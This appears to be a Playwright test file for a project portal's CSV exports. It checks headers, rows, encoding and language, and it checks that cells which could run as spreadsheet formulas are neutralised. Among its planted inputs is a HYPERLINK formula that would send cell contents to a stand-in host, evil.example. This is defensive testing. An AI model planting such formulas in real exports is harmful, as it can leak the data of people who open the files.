import { expect, test, type Page } from '@playwright/test';
import { downloadCsv } from './helpers/csv-download';
import { loginAs } from './helpers/portal';

/*
 * CSV exports read back from the downloaded file: a staff grid exports exactly the rows its
 * filters leave with the visible columns, the user's own lists export their rows; every file is
 * UTF-8 with a BOM and its headers follow the interface language.
 */
interface ProjectRow {
  identifier: string;
  name: string;
  state: { name: string };
  project_type: { name: string };
}

async function getJson<T>(page: Page, url: string): Promise<T> {
  const answer = await page.request.get(url);
  expect(answer.ok()).toBe(true);
  return (await answer.json()) as T;
}

async function pickFilter(page: Page, key: string, option: string): Promise<void> {
  await page.locator(`[data-filter="${key}"] .ui.dropdown`).click();
  await page.locator(`[data-filter="${key}"] .menu .item`, { hasText: new RegExp(`^${option}$`) }).click();
}

test('a filtered staff grid exports the rows it shows, with its visible columns, in the interface language', async ({ page }) => {
  await loginAs(page, 'staff');
  await page.goto('/ui/projects');
  const practical = (await getJson<ProjectRow[]>(page, '/api/v1/internal/projects/all')).filter(
    (p) => !['submit', 'deny'].includes(p.state.name) && p.project_type.name === 'practical',
  );
  expect(practical.length).toBeGreaterThan(0);
  await pickFilter(page, 'type', 'Nastava');
  await expect(page.getByTestId('grid-count')).toHaveAttribute('data-count', String(practical.length));

  const csv = await downloadCsv(page, page.getByRole('button', { name: 'Izvoz CSV' }));
  expect(csv.fileName).toBe('projects.csv');
  expect(csv.bom).toBe(true);
  expect(csv.header).toEqual(['#', 'Stanje', 'Projekt', 'Tip', 'Trajanje', 'Potrošeno (%)', 'Istek sati', 'Osobe']);
  expect(csv.rows).toHaveLength(practical.length);
  const project = csv.header.indexOf('Projekt');
  expect(csv.rows.map((r) => r[project].split(' / ').at(-1)).sort()).toEqual(practical.map((p) => p.identifier).sort());
  // Values with labels are written as the interface shows them.
  expect(csv.rows.map((r) => r[csv.header.indexOf('Tip')])).toEqual(practical.map(() => 'Nastava'));
  expect(csv.rows.map((r) => r[csv.header.indexOf('Stanje')]).every((s) => !/^[a-z-]+$/.test(s))).toBe(true);
  // Croatian letters survive: the names are written as they are.
  expect(csv.rows.map((r) => r[project].split(' / ')[0]).sort()).toEqual(practical.map((p) => p.name).sort());

  await page.getByRole('button', { name: 'EN', exact: true }).click();
  const english = await downloadCsv(page, page.getByRole('button', { name: 'Export CSV' }));
  expect(english.header).toEqual(['#', 'State', 'Project', 'Type', 'Duration', 'Used (%)', 'Runs out', 'People']);
  expect(english.rows).toHaveLength(practical.length);
  expect(english.rows.map((r) => r[english.header.indexOf('Type')])).toEqual(practical.map(() => 'Practical class'));
});

test("the user's own lists export their rows: my requests, memberships, public keys", async ({ page }) => {
  await loginAs(page, 'lead');
  const led = await getJson<ProjectRow[]>(page, '/api/v1/internal/projects/role/lead');
  await page.goto('/ui/my-requests');
  await expect(page.getByTestId(`my-request-${led[0].identifier}`)).toBeVisible();
  const requests = await downloadCsv(page, page.getByTestId('csv-export'));
  expect(requests.bom).toBe(true);
  expect(requests.header).toEqual(['Stanje', 'Podnesen', 'Naziv i dodijeljeni resursi', 'Šifra', 'Tip', 'Trajanje']);
  expect(requests.rows.map((r) => r[3])).toEqual(led.map((p) => p.identifier));

  await page.goto('/ui/memberships');
  await expect(page.getByTestId('memberships-table').locator('[data-project]').first()).toBeVisible();
  const shown = await page.getByTestId('memberships-table').locator('[data-project]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-project')));
  expect(shown.length).toBeGreaterThan(0);
  const memberships = await downloadCsv(page, page.getByTestId('csv-export'));
  expect(memberships.bom).toBe(true);
  expect(memberships.rows.map((r) => r[2])).toEqual(shown);

  await page.goto('/ui/public-keys');
  const keys = await getJson<{ name: string; fingerprint_sha256: string }[]>(page, '/api/v1/internal/keys/');
  await expect(page.locator('[data-key-name]')).toHaveCount(keys.length);
  const exported = await downloadCsv(page, page.getByTestId('csv-export'));
  expect(exported.bom).toBe(true);
  // The fingerprint as the page shows it and `ssh-keygen -l` prints it (SHA256).
  expect(exported.rows.map((r) => [r[0], r[1]])).toEqual(keys.map((k) => [k.name, k.fingerprint_sha256]));
});

/**
 * Names a spreadsheet program would run as formulas, planted through the API by the superuser in
 * user mode (whose requests and keys no other test counts).
 */
const PLANTED = {
  submitted: '=HYPERLINK("http://evil.example/?leak="&C3,"Open request")',
  second: '-2+3 obrada podataka',
  approved: '@SUM(1+1) radionica',
  keys: ['=2+3', '+385 laptop', '-rf laptop', '@home'],
};

async function csrfOf(page: Page): Promise<string> {
  return (await getJson<{ csrftoken: string }>(page, '/api/v1/sessionactive')).csrftoken;
}

/** A practical-class request of the signed-in user, by the API; its identifier. */
async function submitRequest(page: Page, name: string): Promise<string> {
  const answer = await page.request.post('/api/v1/internal/projects-general/', {
    headers: { 'x-csrftoken': await csrfOf(page) },
    data: {
      name,
      reason: 'Vježbe iz MPI programiranja.',
      date_start: '2026-03-01',
      date_end: '2027-01-31',
      project_type: 'practical',
      state: 'submit',
      science_software: [],
      science_extrasoftware: '',
      science_extrasoftware_help: false,
      science_field: [{ name: { label: 'Tehničke znanosti', value: 'Tehničke znanosti' }, percent: 100, scientificfields: [{ name: { label: 'Računarstvo', value: 'Računarstvo' }, percent: 100 }] }],
      resources_numbers: { HPCnSlotsCPU: 16 },
      resources_type: [{ label: 'CPU', value: 'CPU' }],
    },
  });
  expect(answer.status(), await answer.text()).toBe(201);
  return ((await answer.json()) as { identifier: string }).identifier;
}

/** An Ed25519 public key line whose 32 key bytes are all `fill`. */
function ed25519Key(fill: number): string {
  const part = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
  return `ssh-ed25519 ${Buffer.concat([part(Buffer.from('ssh-ed25519')), part(Buffer.alloc(32, fill))]).toString('base64')} admin@laptop`;
}

/** Every cell of an export that holds one of the planted texts starts with the quote that keeps it text. */
function expectNeutralised(rows: string[][], planted: readonly string[]): void {
  const cells = rows.flat();
  for (const text of planted) {
    const holding = cells.filter((cell) => cell.includes(text));
    expect(holding.length, `a cell holding ${text}`).toBeGreaterThan(0);
    for (const cell of holding) expect(cell.startsWith(`'${text}`), cell).toBe(true);
  }
}

test('every export writes a cell that a spreadsheet would run as a formula with a leading quote', async ({ page, browser }) => {
  test.setTimeout(120_000);
  await loginAs(page, 'admin');
  const submitted = await submitRequest(page, PLANTED.submitted);
  await submitRequest(page, PLANTED.second);
  const approved = await submitRequest(page, PLANTED.approved);
  const staff = await browser.newPage();
  await loginAs(staff, 'staff');
  const approval = await staff.request.post(`/api/v1/internal/projects/${encodeURIComponent(approved)}`, {
    headers: { 'x-csrftoken': await csrfOf(staff) },
    data: { state: 'approve', staff_resources_type: [{ value: 'CPU' }] },
  });
  expect(approval.status(), await approval.text()).toBe(200);

  // Approved, the superuser has an active project and may add keys.
  for (const name of PLANTED.keys) {
    const added = await page.request.post('/api/v1/internal/keys/', {
      headers: { 'x-csrftoken': await csrfOf(page) },
      data: { name, public_key: ed25519Key(PLANTED.keys.indexOf(name) + 101) },
    });
    expect(added.status(), await added.text()).toBe(201);
  }

  await staff.goto('/ui/requests');
  await expect(staff.getByTestId('grid-count')).not.toHaveAttribute('data-count', '0');
  const requests = await downloadCsv(staff, staff.getByRole('button', { name: 'Izvoz CSV' }));
  expect(requests.fileName).toBe('requests.csv');
  expectNeutralised(requests.rows, [PLANTED.submitted, PLANTED.second]);

  await staff.goto('/ui/projects');
  await expect(staff.getByTestId('grid-count')).not.toHaveAttribute('data-count', '0');
  const projects = await downloadCsv(staff, staff.getByRole('button', { name: 'Izvoz CSV' }));
  expect(projects.fileName).toBe('projects.csv');
  expectNeutralised(projects.rows, [PLANTED.approved]);
  await staff.close();

  await page.goto('/ui/my-requests');
  await expect(page.getByTestId(`my-request-${submitted}`)).toBeVisible();
  expectNeutralised((await downloadCsv(page, page.getByTestId('csv-export'))).rows, [PLANTED.submitted, PLANTED.second, PLANTED.approved]);

  await page.goto('/ui/memberships');
  await expect(page.getByTestId('memberships-table').locator(`[data-project="${approved}"]`)).toBeVisible();
  expectNeutralised((await downloadCsv(page, page.getByTestId('csv-export'))).rows, [PLANTED.approved]);

  await page.goto('/ui/public-keys');
  await expect(page.locator('[data-key-name]').first()).toBeVisible();
  expectNeutralised((await downloadCsv(page, page.getByTestId('csv-export'))).rows, PLANTED.keys);
});
